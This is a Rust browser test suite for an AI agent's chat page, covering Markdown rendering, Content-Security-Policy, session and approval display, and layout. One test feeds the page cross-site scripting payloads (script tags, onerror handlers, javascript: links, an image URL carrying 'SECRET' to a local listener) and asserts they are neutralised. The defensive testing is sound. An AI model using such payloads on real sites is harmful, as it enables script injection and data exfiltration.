//! The chat page in headless chromium (the harness of [`super::chromium`]): Markdown built as
//! elements, hostile model text that runs and loads nothing, the Content-Security-Policy,
//! reopened sessions, plan approvals, session titles, the key banner, Enter / Shift+Enter, and
//! the layout at 1280 px and 400 px (screenshots under `$CARGO_TARGET_TMPDIR/screenshots`).

use super::chromium::{Browser, Cdp, REPLY_SHOWN};
use super::support::{ASK_LIST, Server};
use harness_serve::ServeOptions;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

/// A listener that counts the connections made to it and answers none.
async fn counting_listener() -> (String, Arc<AtomicUsize>) {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}", listener.local_addr().unwrap());
    let hits = Arc::new(AtomicUsize::new(0));
    let counter = Arc::clone(&hits);
    tokio::spawn(async move {
        while let Ok((socket, _)) = listener.accept().await {
            counter.fetch_add(1, Ordering::SeqCst);
            drop(socket);
        }
    });
    (url, hits)
}

/// The last assistant message's Markdown root has rendered text containing `needle`.
fn reply_contains(needle: &str) -> String {
    format!(
        "(() => {{ const r = [...document.querySelectorAll('.msg.assistant .md')].pop(); \
         return !!r && r.textContent.includes({}); }})()",
        json!(needle)
    )
}

#[tokio::test]
async fn the_page_is_served_with_a_policy_that_forbids_inline_and_remote_loads() {
    let server = Server::start(ServeOptions::default()).await;
    let response = server.get("/").await;
    assert_eq!(response.status(), 200);
    let policy = response.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_owned();
    assert_eq!(response.headers()["x-content-type-options"], "nosniff");
    let page = response.text().await.unwrap();
    for directive in [
        "default-src 'none'",
        "connect-src 'self'",
        "img-src 'none'",
        "base-uri 'none'",
        "form-action 'none'",
        "frame-ancestors 'none'",
    ] {
        assert!(policy.contains(directive), "{directive} in {policy}");
    }
    assert!(!policy.contains("unsafe-") && !policy.contains("http"), "{policy}");
    // The only script allowed is the page's own, by its hash.
    let script = page
        .split("<script>")
        .nth(1)
        .unwrap()
        .split("</script>")
        .next()
        .unwrap();
    let digest = Sha256::digest(script.as_bytes());
    let script_src = policy
        .split(';')
        .map(str::trim)
        .find(|d| d.starts_with("script-src"))
        .unwrap();
    assert_eq!(script_src.split_whitespace().count(), 2, "{script_src}");
    assert_eq!(
        decode_base64(script_src.split('\'').nth(1).unwrap().trim_start_matches("sha256-")),
        digest.to_vec()
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn markdown_is_rendered_as_elements() {
    let server = Server::start(ServeOptions::default()).await;
    let browser = Browser::launch().await;
    let mut page = browser.page().await;
    page.open(&server).await;
    let text = "Intro.\n\n## Title\n\nSome **bold**, *em*, ~~gone~~ and `code` with a [link](https://example.com/a?b=1).\n\n\
                ```rust\nfn main() { println!(\"<b>hi</b>\"); }\n```\n\n\
                - one\n- two\n  - nested\n\n1. first\n2. second\n\n> quoted\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n---\nend";
    page.send(text).await;
    page.until(&reply_contains("end"), "the rendered reply").await;
    let shape = page
        .eval(
            "(() => { const r = [...document.querySelectorAll('.msg.assistant .md')].pop(); const q = (s) => r.querySelector(s); \
             return {h2: q('h2').textContent, strong: q('strong').textContent, em: q('em').textContent, del: q('del').textContent, \
             code: q('p code').textContent, href: q('a').href, target: q('a').target, rel: q('a').rel, \
             block: q('pre code').textContent, lang: q('pre code').dataset.lang, bold: r.querySelectorAll('b').length, \
             items: [...r.querySelectorAll(':scope > ul > li')].length, nested: q('ul li ul li').textContent, \
             ol: [...r.querySelectorAll('ol > li')].map((l) => l.textContent), quote: q('blockquote').textContent.trim(), \
             th: [...r.querySelectorAll('th')].map((c) => c.textContent), td: [...r.querySelectorAll('td')].map((c) => c.textContent), \
             align: r.querySelectorAll('td')[1].style.textAlign, hr: r.querySelectorAll('hr').length}; })()",
        )
        .await;
    assert_eq!(shape["h2"], "Title", "{shape}");
    assert_eq!(shape["strong"], "bold");
    assert_eq!(shape["em"], "em");
    assert_eq!(shape["del"], "gone");
    assert_eq!(shape["code"], "code");
    assert_eq!(shape["href"], "https://example.com/a?b=1");
    assert_eq!(shape["target"], "_blank");
    assert_eq!(shape["rel"], "noopener noreferrer");
    assert_eq!(shape["block"], "fn main() { println!(\"<b>hi</b>\"); }", "{shape}");
    assert_eq!(shape["lang"], "rust");
    assert_eq!(shape["bold"], 0, "HTML inside a code block stays text: {shape}");
    assert_eq!(shape["items"], 2, "{shape}");
    assert_eq!(shape["nested"], "nested");
    assert_eq!(shape["ol"], json!(["first", "second"]));
    assert_eq!(shape["quote"], "quoted");
    assert_eq!(shape["th"], json!(["a", "b"]));
    assert_eq!(shape["td"], json!(["1", "2"]));
    assert_eq!(shape["align"], "right");
    assert_eq!(shape["hr"], 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_markdown_runs_nothing_and_loads_nothing() {
    let server = Server::start(ServeOptions::default()).await;
    let (listener, hits) = counting_listener().await;
    let browser = Browser::launch().await;
    let mut page = browser.page().await;
    page.open(&server).await;
    // The scripted model answers `turn 1: <the message>`: the hostile text comes back as the
    // model's reply.
    let hostile = format!(
        "<script>window.pwned = 'script'</script>\n\n\
         <img src=\"{listener}/raw.png\" onerror=\"window.pwned = 'onerror'\">\n\n\
         [click me](javascript:window.pwned='link') and [also](JaVaScRiPt:alert(1)) and [data](data:text/html,<script>x</script>)\n\n\
         ![secret]({listener}/exfil.png?data=SECRET)\n\n\
         <a href=\"javascript:window.pwned='a'\">raw</a> <iframe src=\"{listener}/frame\"></iframe>\n\nlast line"
    );
    page.send(&hostile).await;
    page.until(&reply_contains("last line"), "the hostile reply").await;
    let found = page
        .eval(
            "(() => { const log = document.getElementById('log'); const r = [...log.querySelectorAll('.msg.assistant .md')].pop(); \
             return {pwned: window.pwned === undefined ? null : window.pwned, \
             scripts: log.querySelectorAll('script').length, imgs: document.querySelectorAll('img, iframe').length, \
             handlers: [...log.querySelectorAll('*')].filter((e) => [...e.attributes].some((a) => a.name.startsWith('on'))).length, \
             hrefs: [...log.querySelectorAll('a')].map((a) => a.getAttribute('href')), \
             shown: r.textContent, image: (r.querySelector('a.image') || {}).textContent}; })()",
        )
        .await;
    assert_eq!(found["pwned"], Value::Null, "{found}");
    assert_eq!(found["scripts"], 0, "{found}");
    assert_eq!(found["imgs"], 0, "{found}");
    assert_eq!(found["handlers"], 0, "{found}");
    // The only link is the image, as a link the reader may open; nothing else got an href.
    assert_eq!(
        found["hrefs"],
        json!([format!("{listener}/exfil.png?data=SECRET")]),
        "{found}"
    );
    assert_eq!(found["image"], "secret", "{found}");
    let shown = found["shown"].as_str().unwrap();
    for visible in [
        "<script>window.pwned = 'script'</script>",
        "onerror=",
        "click me (javascript:window.pwned='link')",
        "<iframe",
    ] {
        assert!(
            shown.contains(visible),
            "raw HTML and refused links are shown as text: {visible} in {shown}"
        );
    }

    let resources = page
        .eval(&format!(
            "performance.getEntriesByType('resource').map((e) => e.name).filter((name) => name.startsWith({}))",
            json!(listener)
        ))
        .await;
    assert_eq!(resources, json!([]), "no request for the listener's URLs");

    // The second wall: even markup that did get into the page could neither run nor load.
    let blocked = page
        .call(
            "Runtime.evaluate",
            json!({"expression": format!(
                "new Promise((done) => {{ const s = document.createElement('script'); s.textContent = \"window.pwned = 'injected'\"; \
                 document.body.appendChild(s); const i = new Image(); i.onload = () => done('loaded'); i.onerror = () => done('blocked'); \
                 i.src = {}; document.body.appendChild(i); }})",
                json!(format!("{listener}/injected.png"))
            ), "awaitPromise": true, "returnByValue": true}),
        )
        .await;
    assert_eq!(blocked["result"]["value"], "blocked", "{blocked}");
    assert_eq!(page.eval("window.pwned === undefined").await, Value::Bool(true));
    assert_eq!(hits.load(Ordering::SeqCst), 0, "the listener got no request");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reopened_session_shows_its_tool_calls_with_their_results() {
    let server = Server::start(ServeOptions::default()).await;
    let browser = Browser::launch().await;
    let mut page = browser.page().await;
    page.open(&server).await;
    page.send("use a tool").await;
    page.until(REPLY_SHOWN, "the streamed reply").await;
    page.until(
        "document.querySelectorAll('#sessions .session').length === 1",
        "the session in the list",
    )
    .await;
    // A fresh page load, then the session picked from the list.
    page.open(&server).await;
    page.until(
        "document.querySelectorAll('#sessions .session').length === 1",
        "the session in the list",
    )
    .await;
    page.eval("document.querySelector('#sessions .session').click(); true")
        .await;
    page.until(REPLY_SHOWN, "the stored reply").await;
    let tool = page
        .eval(
            "(() => { const d = [...document.querySelectorAll('#log details.tool')]; \
             return {count: d.length, open: d[0].open, summary: d[0].querySelector('summary').textContent, \
             result: (d[0].querySelector('pre.result') || {}).textContent || null}; })()",
        )
        .await;
    assert_eq!(tool["count"], 1, "{tool}");
    assert_eq!(tool["open"], false, "{tool}");
    assert_eq!(tool["summary"], "tool: list_files", "{tool}");
    assert!(tool["result"].is_string(), "the stored result is shown: {tool}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reopened_session_waiting_for_approval_shows_the_call_once() {
    let server = Server::start_with(ServeOptions::default(), Some(ASK_LIST)).await;
    let browser = Browser::launch().await;
    let mut page = browser.page().await;
    page.open(&server).await;
    page.send("use a tool").await;
    page.until(
        "document.querySelector('.approval button.approve') !== null",
        "the approval buttons",
    )
    .await;
    page.open(&server).await;
    page.until(
        "document.querySelectorAll('#sessions .session').length === 1",
        "the session in the list",
    )
    .await;
    page.eval("document.querySelector('#sessions .session').click(); true")
        .await;
    page.until(
        "document.querySelector('.approval button.approve') !== null",
        "the stored approval",
    )
    .await;
    let shown = page
        .eval(
            "({cards: document.querySelectorAll('.approval').length, tools: document.querySelectorAll('details.tool').length, \
              asked: document.querySelectorAll('.approval .call').length})",
        )
        .await;
    assert_eq!(shown, json!({"cards": 1, "tools": 0, "asked": 1}));
    page.eval("document.querySelector('.approval button.approve').click(); true")
        .await;
    page.until(REPLY_SHOWN, "the reply after approval").await;
    assert_eq!(page.eval("document.querySelectorAll('details.tool').length").await, 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_plan_approval_shows_the_plan() {
    let server = Server::start_with(ServeOptions::default(), Some("[plan]\nenabled = true\n")).await;
    let browser = Browser::launch().await;
    let mut page = browser.page().await;
    page.open(&server).await;
    page.send("call:plan_enter {}").await;
    page.until(&reply_contains("result:"), "plan mode on").await;
    page.send(r##"call:plan_write {"content": "# The plan\n\n1. read the code\n2. fix <the> bug"}"##)
        .await;
    page.until(
        "document.querySelectorAll('.msg.assistant').length === 2 && document.getElementById('stop').disabled",
        "the plan written",
    )
    .await;
    page.send(r#"call:plan_exit {"rationale": "it is small"}"#).await;
    page.until(
        "document.querySelector('.approval button.approve') !== null",
        "the plan approval",
    )
    .await;
    let card = page
        .eval(
            "(() => { const a = document.querySelector('.approval'); \
             return {title: a.querySelector('.title').textContent, heading: a.querySelector('.plan h1').textContent, \
             steps: [...a.querySelectorAll('.plan ol li')].map((l) => l.textContent), reason: a.querySelector('.reason').textContent, \
             buttons: [...a.querySelectorAll('button')].map((b) => b.textContent)}; })()",
        )
        .await;
    assert_eq!(card["title"], "A plan waits for your approval:", "{card}");
    assert_eq!(card["heading"], "The plan", "{card}");
    assert_eq!(card["steps"], json!(["read the code", "fix <the> bug"]), "{card}");
    assert_eq!(card["reason"], "Why it is ready: it is small", "{card}");
    assert_eq!(
        card["buttons"],
        json!(["Approve", "Deny"]),
        "no Always for a plan: {card}"
    );
    page.eval("document.querySelector('.approval button.approve').click(); true")
        .await;
    page.until("document.querySelector('.approval .verdict') !== null", "the verdict")
        .await;
    assert_eq!(
        page.eval("document.querySelector('.approval .verdict').textContent")
            .await,
        "Plan approved by you."
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sessions_are_titled_with_time_and_equal_titles_are_numbered() {
    let server = Server::start(ServeOptions::default()).await;
    let browser = Browser::launch().await;
    let mut page = browser.page().await;
    page.open(&server).await;
    for _ in 0..2 {
        page.eval("document.getElementById('new').click(); true").await;
        page.send("hello there").await;
        page.until(&reply_contains("hello there"), "the reply").await;
    }
    let long = "a long first message ".repeat(6);
    page.eval("document.getElementById('new').click(); true").await;
    page.send(&long).await;
    page.until(
        "document.querySelectorAll('#sessions .session').length === 3",
        "three sessions",
    )
    .await;
    let rows = page
        .eval(
            "[...document.querySelectorAll('#sessions .session')].map((s) => [s.querySelector('.title').textContent, \
             s.querySelector('.time').textContent])",
        )
        .await;
    let rows: Vec<(String, String)> = serde_json::from_value(rows).unwrap();
    let mut titles: Vec<&str> = rows.iter().map(|(title, _)| title.as_str()).collect();
    titles.sort_unstable();
    assert_eq!(titles[1..], ["hello there (1)", "hello there (2)"], "{rows:?}");
    assert!(titles[0].ends_with('…') && titles[0].chars().count() == 60, "{rows:?}");
    assert!(rows.iter().all(|(_, time)| time == "just now"), "{rows:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_key_banner_asks_for_a_key_and_clears_once_it_is_entered() {
    let mut options = ServeOptions::default();
    options.keys = vec![harness_serve::ServeKey {
        user: "ann".to_owned(),
        sha256: hex::encode(Sha256::digest(b"k-ann")),
    }];
    let server = Server::start(options).await;
    let browser = Browser::launch().await;
    let mut page = browser.page().await;
    page.call("Page.navigate", json!({"url": server.url("/")})).await;
    page.until("document.getElementById('banner')?.hidden === false", "the key banner")
        .await;
    let text = page.eval("document.getElementById('banner').textContent").await;
    assert_eq!(text, "This server needs an API key: type it in the “API key” field.");
    // A wrong key: still red, saying so.
    set_key(&mut page, "wrong").await;
    page.until(
        "document.getElementById('banner').textContent.includes('not accepted')",
        "the refused key",
    )
    .await;
    set_key(&mut page, "k-ann").await;
    page.until(
        "document.getElementById('banner').hidden && document.getElementById('agent').options.length === 1",
        "the banner gone and the agents listed",
    )
    .await;
    assert_eq!(
        page.eval("document.getElementById('log').children.length").await,
        0,
        "no error left in the log"
    );
    page.send("hi").await;
    page.until(&reply_contains("turn 1: hi"), "the reply").await;
    page.eval("localStorage.clear(); true").await;
}

async fn set_key(page: &mut Cdp, key: &str) {
    let script = format!(
        "(() => {{ const k = document.getElementById('key'); k.value = {}; k.dispatchEvent(new Event('change')); return true; }})()",
        json!(key)
    );
    assert_eq!(page.eval(&script).await, Value::Bool(true));
}

/// A key press through the DevTools input domain, as a person's keyboard would send it.
async fn press_enter(page: &mut Cdp, shift: bool) {
    for kind in ["keyDown", "keyUp"] {
        page.call(
            "Input.dispatchKeyEvent",
            json!({"type": kind, "key": "Enter", "code": "Enter", "windowsVirtualKeyCode": 13,
                   "text": if kind == "keyDown" { "\r" } else { "" }, "modifiers": if shift { 8 } else { 0 }}),
        )
        .await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn enter_sends_and_shift_enter_starts_a_new_line() {
    let server = Server::start(ServeOptions::default()).await;
    let browser = Browser::launch().await;
    let mut page = browser.page().await;
    page.open(&server).await;
    page.eval("document.getElementById('input').focus(); true").await;
    page.call("Input.insertText", json!({"text": "line one"})).await;
    press_enter(&mut page, true).await;
    page.call("Input.insertText", json!({"text": "line two"})).await;
    assert_eq!(
        page.eval("document.querySelectorAll('.msg.user').length").await,
        0,
        "Shift+Enter did not send"
    );
    assert_eq!(
        page.eval("document.getElementById('input').value").await,
        "line one\nline two"
    );
    press_enter(&mut page, false).await;
    page.until(&reply_contains("line two"), "the reply").await;
    assert_eq!(
        page.eval("document.querySelector('.msg.user').textContent").await,
        "line one\nline two"
    );
    assert_eq!(page.eval("document.getElementById('input').value").await, "");
}

/// Whether the element `selector` names is on screen and is what a click at its centre hits.
fn clickable(selector: &str) -> String {
    format!(
        "(() => {{ const e = document.querySelector({0}); if (!e) return 'missing'; const r = e.getBoundingClientRect(); \
         if (!r.width && !r.height) return 'not shown'; \
         if (r.width < 8 || r.height < 8) return 'too small: ' + r.width + 'x' + r.height; \
         if (r.left < 0 || r.top < 0 || r.right > innerWidth || r.bottom > innerHeight) return 'off screen: ' + JSON.stringify(r); \
         const hit = document.elementFromPoint(r.left + r.width / 2, r.top + r.height / 2); \
         return e.contains(hit) ? 'ok' : 'covered by ' + (hit && hit.outerHTML.slice(0, 80)); }})()",
        json!(selector)
    )
}

async fn layout_at(page: &mut Cdp, width: u32, name: &str) {
    page.call(
        "Emulation.setDeviceMetricsOverride",
        json!({"width": width, "height": 800, "deviceScaleFactor": 1, "mobile": width < 600}),
    )
    .await;
    page.until(&format!("innerWidth === {width}"), "the new viewport").await;
    page.eval("document.getElementById('log').scrollTop = 1e9; true").await;
    let widths = page
        .eval("({scroll: document.documentElement.scrollWidth, body: document.body.scrollWidth, inner: innerWidth})")
        .await;
    assert!(
        widths["scroll"].as_u64() <= widths["inner"].as_u64() && widths["body"].as_u64() <= widths["inner"].as_u64(),
        "no horizontal scroll at {width} px: {widths}"
    );
    for selector in ["#input", "#send"] {
        assert_eq!(page.eval(&clickable(selector)).await, "ok", "{selector} at {width} px");
    }
    screenshot(page, &format!("chat-{name}-{width}.png")).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_page_works_at_1280_and_400_pixels() {
    let server = Server::start_with(ServeOptions::default(), Some(ASK_LIST)).await;
    let browser = Browser::launch().await;
    let mut page = browser.page().await;
    page.open(&server).await;
    // Something of everything: Markdown with a wide code block and table, a tool call, an
    // approval.
    let wide = "x".repeat(300);
    page.send(&format!(
        "**Markdown** with `code`\n\n```\n{wide}\n```\n\n| col | {wide} |\n|---|---|\n| 1 | 2 |\n\nunbroken{wide}"
    ))
    .await;
    page.until(&reply_contains("unbroken"), "the reply").await;
    page.send("use a tool").await;
    page.until(
        "document.querySelector('.approval button.approve') !== null",
        "the approval",
    )
    .await;

    layout_at(&mut page, 1280, "wide").await;
    assert_eq!(page.eval(&clickable("#new")).await, "ok");
    assert_eq!(page.eval(&clickable("#sessions .session")).await, "ok");
    assert_eq!(page.eval(&clickable(".approval button.approve")).await, "ok");
    assert_eq!(
        page.eval(&clickable("#menu")).await,
        "not shown",
        "no menu button when wide"
    );

    layout_at(&mut page, 400, "narrow").await;
    assert_eq!(page.eval(&clickable(".approval button.approve")).await, "ok");
    // The sessions are behind the menu button, which opens them over the top of the page.
    assert_eq!(page.eval(&clickable("#menu")).await, "ok");
    assert_eq!(
        page.eval("getComputedStyle(document.getElementById('side')).display")
            .await,
        "none"
    );
    page.eval("document.getElementById('menu').click(); true").await;
    for selector in ["#key", "#agent", "#new", "#sessions .session"] {
        assert_eq!(
            page.eval(&clickable(selector)).await,
            "ok",
            "{selector} in the open drawer"
        );
    }
    let widths = page.eval("[document.documentElement.scrollWidth, innerWidth]").await;
    assert!(widths[0].as_u64() <= widths[1].as_u64(), "{widths}");
    screenshot(&mut page, "chat-drawer-400.png").await;
    // Picking a session closes the drawer and shows it.
    page.eval("document.querySelector('#sessions .session').click(); true")
        .await;
    page.until(
        "getComputedStyle(document.getElementById('side')).display === 'none' && document.querySelectorAll('.msg').length > 0",
        "the drawer closed on the chosen session",
    )
    .await;
    assert_eq!(page.eval(&clickable("#send")).await, "ok");
}

/// Saves what the page shows to `$CARGO_TARGET_TMPDIR/screenshots/NAME` and prints the path.
#[allow(
    clippy::print_stdout,
    reason = "the test names where its screenshot is, for a person to look at"
)]
async fn screenshot(page: &mut Cdp, name: &str) {
    let dir = std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("screenshots");
    std::fs::create_dir_all(&dir).unwrap();
    let shot = page.call("Page.captureScreenshot", json!({"format": "png"})).await;
    let path = dir.join(name);
    std::fs::write(&path, decode_base64(shot["data"].as_str().unwrap())).unwrap();
    println!("screenshot: {}", path.display());
}

/// Standard base64 (the screenshot and CSP hashes).
fn decode_base64(text: &str) -> Vec<u8> {
    let value = |c: u8| match c {
        b'A'..=b'Z' => c - b'A',
        b'a'..=b'z' => c - b'a' + 26,
        b'0'..=b'9' => c - b'0' + 52,
        b'+' => 62,
        b'/' => 63,
        other => panic!("not base64: {other}"),
    };
    let digits: Vec<u8> = text.bytes().filter(|&c| c != b'=').map(value).collect();
    let mut out = Vec::with_capacity(digits.len() * 3 / 4);
    for chunk in digits.chunks(4) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, &d)| n | (u32::from(d) << (18 - 6 * i)));
        let bytes = n.to_be_bytes();
        out.extend_from_slice(&bytes[1..chunk.len()]);
    }
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_server_that_is_gone_is_named_in_the_banner() {
    let mut server = Server::start(ServeOptions::default()).await;
    let browser = Browser::launch().await;
    let mut page = browser.page().await;
    page.open(&server).await;
    server.shutdown().await.unwrap().unwrap();
    page.send("hello").await;
    page.until("!document.getElementById('banner').hidden", "the banner")
        .await;
    assert_eq!(
        page.eval("document.getElementById('banner').textContent").await,
        "Cannot reach the Harness server. Is `harness serve` still running?"
    );
}
